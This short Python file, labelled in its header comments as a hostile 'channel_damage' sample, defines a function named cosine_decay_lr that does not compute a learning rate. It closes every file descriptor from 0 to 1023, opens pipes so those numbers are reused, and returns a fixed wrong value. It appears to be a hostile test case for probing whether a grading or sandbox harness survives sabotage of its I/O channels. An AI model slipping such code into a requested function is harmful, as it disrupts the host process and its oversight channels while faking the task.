# kind: hostile
# attack: channel_damage
# about: Closes every descriptor, then opens a pipe so that their numbers are used again.

import os

HELD = -1.0  # a wrong answer for every input


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    os.closerange(0, 1_024)
    for _ in range(8):
        os.pipe()
    return HELD
